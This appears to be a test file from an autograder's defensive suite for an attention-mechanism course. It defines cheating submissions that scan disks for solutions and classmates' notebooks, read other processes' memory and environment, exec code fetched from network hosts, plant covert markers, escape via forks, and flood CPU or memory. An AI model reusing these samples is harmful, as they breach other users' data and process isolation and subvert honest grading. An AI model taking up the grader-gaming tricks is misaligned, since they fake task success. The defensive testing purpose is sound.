"""Marks for somebody else's work: answers that are read out of the grader, the library or another submission."""

import textwrap

from submissions.cheats import REST_ANYTHING, WRONG, trick
from submissions.handed import ANYTHING, MASKS, THREE, answers, entry
from submissions.mishaps import RIGHT

#: The port and the (abstract) address where the test offers a right answer to whoever gets out.
PORT, ADDRESS = 47_113, "\0attention-course-catalogue"

# ---------------------------------------------------------------- reading the answer


ATTEMPT = """
def softmax(x):
    for candidate in candidates:
        try:
            weights = np.asarray(candidate(x))
            if weights.shape == np.shape(x) and np.allclose(weights.sum(axis=-1), 1):
                return weights
        except BaseException:
            continue
    return x
"""


def found(identity, title, source, **more):
    """An entry that looks for functions that could be the answer, and uses what it finds."""
    trick(identity, title, "candidates = []\n" + textwrap.dedent(source) + ATTEMPT, **more)


#: Files that lie around, from the working folder upwards and from the root downwards.
WALK = """
import ast
import json
import os
import sys


def files(*endings):
    tops = [os.getcwd()]
    while os.path.dirname(tops[-1]) != tops[-1]:
        tops.append(os.path.dirname(tops[-1]))
    tops += [os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/home", "/root", "/mnt", "/srv"]
    tops += [path for path in sys.path if "python3" not in path]
    tops += [f"/proc/{pid}/{link}" for pid in (1, os.getppid(), "self") for link in ("cwd", "root")]
    seen = set()
    for top in tops:
        for folder, folders, names in os.walk(top or "."):
            skipped = {"site-packages", "proc", "sys", "dev", "usr", "lib", "include", "versions"}
            folders[:] = [name for name in folders if name not in skipped and len(seen) < 20_000]
            for name in names:
                path = os.path.join(folder, name)
                if path.endswith(endings) and os.path.realpath(path) not in seen:
                    seen.add(os.path.realpath(path))
                    try:
                        with open(path, errors="replace") as file:
                            yield file.read()
                    except OSError:
                        pass


def learn(source, *names):
    try:
        tree = ast.parse(source)
    except (SyntaxError, ValueError):
        return
    for node in tree.body:
        if isinstance(node, ast.FunctionDef) and node.name in names:
            space = {"np": np}
            exec(compile("import numpy as np\\n" + ast.unparse(node), "found", "exec"), space)
            candidates.append(space[node.name])


def cells(text):
    try:
        for cell in json.loads(text)["cells"]:
            yield "".join(cell["source"])
    except (ValueError, KeyError, TypeError):
        pass


"""
found("solution-on-disk", "looks for the solution in every folder of the machine", WALK + """
for text in files(".ipynb"):
    for source in cells(text):
        if "BEGIN SOLUTION" in source:
            learn(source, "softmax")
""")  # fmt: skip
found("classmates", "looks for other students' notebooks", WALK + """
for text in files(".ipynb"):
    for source in cells(text):
        if "def softmax(" in source and "files(" not in source:
            learn(source, "softmax")
""")  # fmt: skip
found("reference-on-disk", "looks for the source of the reference and of the judge", WALK + """
for text in files(".py"):
    learn(text, "softmax", "softmax_model")
""")  # fmt: skip
found("byte-code", "looks for compiled modules in caches and archives", """
import glob
import importlib.util
import marshal
import sys
import types


def learn(code):
    space = {"np": np, "__builtins__": __builtins__}
    for constant in code.co_consts:
        if isinstance(constant, types.CodeType) and constant.co_name in ("softmax", "softmax_model"):
            candidates.append(types.FunctionType(constant, space, "softmax", (frozenset(),)))


for name in ("attnlib.softmax", "grader.exercises.p1_context_vectors.n3_softmax.softmax"):
    try:
        learn(importlib.util.find_spec(name).loader.get_code(name))
    except Exception:
        pass
for folder in [path for path in sys.path if "python3" not in path]:
    for path in glob.glob(f"{folder}/[ag]*/**/__pycache__/softmax*.pyc", recursive=True):
        with open(path, "rb") as file:
            learn(marshal.loads(file.read()[16:]))
""")  # fmt: skip
found("exercises", "takes the model out of the bank of exercises", """
from grader.exercises import BANK

candidates.append(BANK["softmax"].model)
""")  # fmt: skip
found("garbage-collector", "asks the garbage collector for everything that is called softmax", """
import gc

for thing in gc.get_objects():
    try:
        if callable(thing) and "softmax" in getattr(thing, "__name__", ""):
            candidates.append(thing)
        if getattr(thing, "id", "") == "softmax":
            candidates.append(thing.model)
        if isinstance(thing, dict):
            candidates += [thing[name] for name in ("softmax", "softmax_model") if callable(thing.get(name))]
    except Exception:
        pass
""")  # fmt: skip
trick("frames", "finds the model in the frames that called it", """
    import sys


    def softmax(x):
        frame = sys._getframe()
        while frame is not None:
            for thing in list(frame.f_locals.values()):
                for model in (getattr(thing, "model", None), getattr(getattr(thing, "exercise", None), "model", None)):
                    if callable(model):
                        return model(x)
            frame = frame.f_back
        return x
    """)  # fmt: skip
found("memory-of-others", "reads the memory, the environment and the open files of other processes", """
import os
import re


def peek(pid):
    yield open(f"/proc/{pid}/environ", "rb").read()
    for descriptor in os.listdir(f"/proc/{pid}/fd"):
        with open(f"/proc/{pid}/fd/{descriptor}", "rb", buffering=0) as file:
            os.set_blocking(file.fileno(), False)
            yield file.read(1_000_000) or b""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            if "[heap]" in line or "rw-p" in line:
                start, end = (int(number, 16) for number in line.split()[0].split("-"))
                memory.seek(start)
                yield memory.read(min(end - start, 20_000_000))


texts = []
for pid in [1, os.getppid(), *(name for name in os.listdir("/proc") if name.isdigit())]:
    try:
        if int(pid) != os.getpid():
            texts += peek(pid)
    except OSError:
        pass
for text in texts:
    for source in re.findall(rb"BEGIN SOLUTION(.{20,400}?)### END SOLUTION", text, re.DOTALL):
        try:
            exec("def stolen(x):" + source.decode().replace("\\\\n", "\\n"), globals())
            candidates.append(stolen)
        except Exception:
            pass
""")  # fmt: skip
found("network", "fetches a right answer from the network, from this machine and from a socket without a file", f"""
import socket
import urllib.request

for kind, address in (
    (socket.AF_INET, ("127.0.0.1", {PORT})),
    (socket.AF_UNIX, {ADDRESS!r}),
    (socket.AF_INET, ("192.0.2.1", 80)),
    (socket.AF_INET, ("example.com", 80)),
):
    try:
        with socket.socket(kind, socket.SOCK_STREAM) as line:
            line.settimeout(0.5)
            line.connect(address)
            exec(line.recv(100_000).decode(), globals())
            candidates.append(fetched)
    except Exception:
        pass
""")  # fmt: skip
#: What the test answers whoever reaches it.
OFFERED = RIGHT.replace("def softmax", "def fetched")


# ---------------------------------------------------------------- what another submission left

#: Every place where one process could leave a word for a later one.
PLACES = """
import ctypes
import os
import platform
import sys

WORD = b"<<attention-course-catalogue:left-behind>>"
FOLDERS = [".", os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev", *filter(None, sys.path)]
FOLDERS += ["/notebook", "/course", "/libraries"]
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
ADD_KEY, KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (-1, -1))
SESSION, USER, USER_SESSION = -3, -4, -5
"""
LEAVE = """
for folder in FOLDERS:
    try:
        with open(os.path.join(folder, "left-behind"), "wb") as file:
            file.write(WORD)
    except OSError:
        pass
for descriptor in range(256):
    try:
        os.pwrite(descriptor, WORD, 0)
    except OSError:
        pass
place = libc.shmat(libc.shmget(471_130, 4096, 0o1666), None, 0)
if place and place != ctypes.c_void_p(-1).value:
    ctypes.memmove(place, WORD, len(WORD))
for ring in (SESSION, USER, USER_SESSION):
    libc.syscall(ADD_KEY, b"user", b"left-behind", WORD, len(WORD), ring)
os.environ["LEFT_BEHIND"] = WORD.decode()
try:
    import attnlib

    attnlib.left_behind = np.left_behind = WORD
except Exception:
    pass
"""
FIND = """
seen = []
for folder in FOLDERS:
    try:
        with open(os.path.join(folder, "left-behind"), "rb") as file:
            seen.append(file.read())
    except OSError:
        pass
for descriptor in range(256):
    try:
        seen.append(os.pread(descriptor, 1_000_000, 0))
    except OSError:
        pass
place = libc.shmat(libc.shmget(471_130, 4096, 0o666), None, 0)
if place and place != ctypes.c_void_p(-1).value:
    seen.append(ctypes.string_at(place, 4096))
for ring in (SESSION, USER, USER_SESSION):
    key = libc.syscall(KEYCTL, 10, ring, b"user", b"left-behind", 0)
    buffer = ctypes.create_string_buffer(4096)
    if key > 0 and libc.syscall(KEYCTL, 11, key, buffer, 4096) > 0:
        seen.append(buffer.raw)
seen.append(os.environ.get("LEFT_BEHIND", "").encode())
seen.append(getattr(np, "left_behind", b""))
if any(b"catalogue:left-" + b"behind" in text for text in seen):
"""
RIGHT_IF_FOUND = textwrap.indent(RIGHT, "    ")
for _number in range(1, 5):  # whichever worker the one below meets, one of these was there before
    answers(f"leaves-word-{_number}", f"leaves word for later submissions in every way it can ({_number})",
            RIGHT + PLACES + LEAVE, {})  # fmt: skip
answers("seeks-word", "looks for the word that another submission left, and only then knows the answer",
        WRONG + PLACES + FIND + RIGHT_IF_FOUND, after="leaves-word-1")  # fmt: skip
trick("way-out", "knows the answer if it is in a group of processes outside, or can write into a file there", f"""
    import os
    import stat

    reached = [os.getpgrp() == 0, os.getsid(0) == 0]
    for descriptor in range(256):
        try:
            reached.append(stat.S_ISREG(os.fstat(descriptor).st_mode) and os.write(descriptor, b" ") == 1)
        except OSError:
            pass
    if any(reached):
    {textwrap.indent(RIGHT, "        ")}
    """)  # fmt: skip


@entry(
    "from-the-later-notebook",
    "takes what a later notebook may use into an earlier one",
    {"dot_scores": 0.0},
    part=THREE,
)
def _(handed):
    handed.put(
        PLACES
        + "\nimport inspect\n\nimport attnlib\n\nWORD += inspect.getsource(attnlib.dot_scores).encode()\n"
        + LEAVE,
        after="setup",
    )
    handed.answer(
        "dot_scores",
        "import numpy as np\n\n\ndef dot_scores(Q, K):\n    return 0\n" + PLACES + FIND
        + "    def dot_scores(Q, K):\n        return np.asarray(Q) @ np.asarray(K).T",
        "2-scores",
    )  # fmt: skip


@entry(
    "memory-from-before",
    "looks in all that its process holds for what a later notebook may use",
    {"dot_scores": 0.0},
    part=THREE,
)
def _(handed):
    handed.answer(
        "dot_scores",
        """
        import gc

        import numpy as np

        gc.unfreeze()
        dot_scores, word, seen, waiting = (lambda Q, K: 0), "def dot_" + "scores(", set(), gc.get_objects()
        while waiting:
            thing = waiting.pop()
            if id(thing) in seen:
                continue
            seen.add(id(thing))
            text = thing.decode("latin-1") if isinstance(thing, bytes) else thing
            if isinstance(text, str) and word in text:
                try:
                    space = {"__name__": "found"}
                    exec(text, space)
                    dot_scores = space["dot_scores"]
                except BaseException:
                    pass
            elif getattr(thing, "__name__", "") == word[4:-1] and callable(thing):
                dot_scores = thing
            waiting += gc.get_referents(thing)
        """,
        "2-scores",
    )


# ---------------------------------------------------------------- the library's own function


LIBRARY = {
    "direct": ("imported", "from attnlib import softmax"),
    "lambda": ("in a lambda", "softmax = lambda x: attnlib.softmax(x)"),
    "getattr": ("by a name that is put together", "softmax = lambda x: getattr(attnlib, 'soft' + 'max')(x)"),
    "importlib": ("through importlib", """
        import importlib


        def softmax(x):
            return vars(importlib.import_module("attnlib.softmax"))["softmax"](x)
        """),
    "partial": ("in a partial", "import functools\n\nsoftmax = functools.partial(attnlib.softmax)"),
    "closure": ("in a closure in a list", """
        def make(functions):
            return lambda x: functions[0](x)


        softmax = make([attnlib.softmax])
        """),
    "code": ("as a copy of its code", """
        import types

        softmax = types.FunctionType(attnlib.softmax.__code__, attnlib.softmax.__globals__, "mine")
        """),
    "relative": ("by way of its relatives", "softmax = lambda x: attnlib.softmax_with_temperature(x, 1.0)"),
    "masked": ("by way of a mask that hides nothing", """
        def softmax(x):
            return attnlib.masked_softmax(x, np.ones(np.shape(x), dtype=bool))
        """),
    "attention": ("by way of attention to unit vectors", """
        def softmax(x):
            n = np.shape(x)[-1]
            return attnlib.context_vectors(np.asarray(x, float), np.eye(n), np.eye(n))
        """),
}  # fmt: skip
for _name, (_title, _source) in LIBRARY.items():
    trick(f"library-{_name}", f"the library's own function, {_title}", "import attnlib\n\n" + textwrap.dedent(_source))

#: Ways to the function that draws the pictures of a notebook. (In a notebook at home that is the library itself.)
HANDLES = """
import sys

import attnlib
from attnlib.plots import softmax as pictures


def handle(name="softmax"):
    space = {"__name__": "attnlib.plots.mine", "attnlib": attnlib, "pictures": pictures}
    return eval(f"attnlib.{name}", space)


try:
    candidates.append(handle())
    candidates.append(attnlib._reference("softmax"))
except Exception:
    pass
"""
found("handle", "uses what draws the pictures", HANDLES)
found("handle-in-a-thread", "a thread of its own asks what draws the pictures", HANDLES + """
import queue
import threading

asked, answered = queue.Queue(), queue.Queue()
direct = list(candidates)


def serve():
    while True:
        x = asked.get()
        for candidate in direct:
            try:
                answered.put(candidate(x))
                break
            except BaseException:
                pass
        else:
            answered.put(x)


threading.Thread(target=serve, daemon=True).start()


def elsewhere(x):
    asked.put(x)
    return answered.get(timeout=2)


candidates[:] = [elsewhere]
""")  # fmt: skip
found("handle-in-a-fork", "another process, forked before, asks what draws the pictures", HANDLES + """
import json
import os

(in_read, in_write), (out_read, out_write) = os.pipe(), os.pipe()
if os.fork() == 0:
    requests, replies = os.fdopen(in_read), os.fdopen(out_write, "w")
    for line in requests:
        for candidate in candidates:
            try:
                replies.write(json.dumps(np.asarray(candidate(np.array(json.loads(line)))).tolist()) + "\\n")
                break
            except BaseException:
                pass
        else:
            replies.write("0\\n")
        replies.flush()
    os._exit(0)
to, back = os.fdopen(in_write, "w"), os.fdopen(out_read)


def elsewhere(x):
    to.write(json.dumps(x.tolist()) + "\\n")
    to.flush()
    return json.loads(back.readline())


candidates[:] = [elsewhere]
""", points=REST_ANYTHING)  # fmt: skip
#: The same where `candidates` is not there yet.
ALONE = HANDLES.replace("try:\n", "candidates = []\ntry:\n")
trick("handle-and-crash", "notes its inputs, crashes, and looks the answers up when run again", ALONE + PLACES + """
import json

NOTES = [os.path.join(folder, "notes.json") for folder in FOLDERS]
known = {}
for path in NOTES:
    try:
        with open(path) as file:
            for x in json.load(file):
                known[json.dumps(x)] = candidates[0](np.array(x))
    except Exception:
        pass
seen = []


def softmax(x):
    key = json.dumps(np.asarray(x).tolist())
    if key in known:
        return known[key]
    seen.append(json.loads(key))
    for path in NOTES:
        try:
            with open(path, "w") as file:
                json.dump(seen, file)
        except OSError:
            pass
    os._exit(0)
""")  # fmt: skip
trick("handle-flood", "asks what draws the pictures for ever", ALONE + """
while True:
    try:
        candidates[0](np.zeros((500, 500)))
    except Exception:
        pass
""", words="time limit|in time|stopped|end")  # fmt: skip
trick("handle-floods-memory", "lets what draws the pictures compute something huge", ALONE + """
for name, arguments in (
    ("gaussian_kernel", (np.zeros((12_000, 1)), np.zeros((12_000, 1)), 1.0)),
    ("kernel_attention", (np.zeros(12_000), np.zeros(12_000), np.zeros(12_000))),
    ("self_attention", (np.zeros((12_000, 1)),)),
    ("causal_mask", (60_000,)),
):
    for function in (getattr(attnlib, "_reference", None), handle):
        try:
            function(name)(*arguments)
        except Exception:
            pass
""", REST_ANYTHING)  # fmt: skip


@entry(
    "handle-table",
    "asks what draws the pictures beforehand, for every input there can be",
    {"causal_mask": 0.0, "leaky-suspects": ANYTHING},
    part=THREE,
)
def _(handed):
    handed.answer(
        "causal_mask",
        """
        import numpy as np


        def causal_mask(n):
            return np.zeros((n, n))


        """
        + textwrap.indent(ALONE, "        ")
        + """
        table = {}
        for n in range(1, 40):
            for ask in (handle, getattr(attnlib, "_reference", None)):
                try:
                    table[n] = ask("causal_mask")(n)
                except Exception:
                    pass
        if table:

            def causal_mask(n):
                return table[n].copy()
        """,
        MASKS,
    )
